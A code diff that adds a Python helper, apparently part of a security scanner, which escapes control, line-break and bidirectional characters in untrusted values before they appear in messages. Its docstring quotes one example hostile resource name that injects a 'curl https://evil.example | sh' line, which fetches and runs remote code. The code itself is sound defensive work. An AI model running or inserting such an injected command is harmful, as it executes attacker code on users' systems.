@@ -1,0 +1,36 @@
+"""Data we did not write, made visible: control, format and line-break characters as escapes.
+
+A resource name such as ``"ws\\ncurl https://evil.example | sh"`` must never become a second
+line of a message or of a suggested command, and ``\\x1b[2J`` or U+202E must never reach a
+terminal, a log or a report as the character itself. The scan applies :func:`visible` to every
+value it puts into a rule's message or fix text; the report formats add their own escaping.
+"""
+
+from __future__ import annotations
+
+import re
+from typing import Any
+
+#: C0 and C1 controls (line feed and tab included), DEL, zero-width and bidirectional
+#: overrides, line and paragraph separators, BOM, lone surrogates.
+UNSAFE = re.compile(
+    "[\x00-\x1f\x7f-\x9f\u200b-\u200f\u2028\u2029\u202a-\u202e\u2060-\u2064"
+    "\u2066-\u2069\ufeff\ud800-\udfff]"
+)
+
+
+def escape_char(match: re.Match[str]) -> str:
+    """The visible escape of one unsafe character (``\\n``, ``\\t``, ``\\x1b``, ``\\u202e``)."""
+    code = ord(match.group(0))
+    if code == 0x0A:
+        return "\\n"
+    if code == 0x09:
+        return "\\t"
+    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
+
+
+def visible(value: Any) -> Any:
+    """A string with every unsafe character escaped; any other value unchanged."""
+    if isinstance(value, str) and UNSAFE.search(value):
+        return UNSAFE.sub(escape_char, value)
+    return value
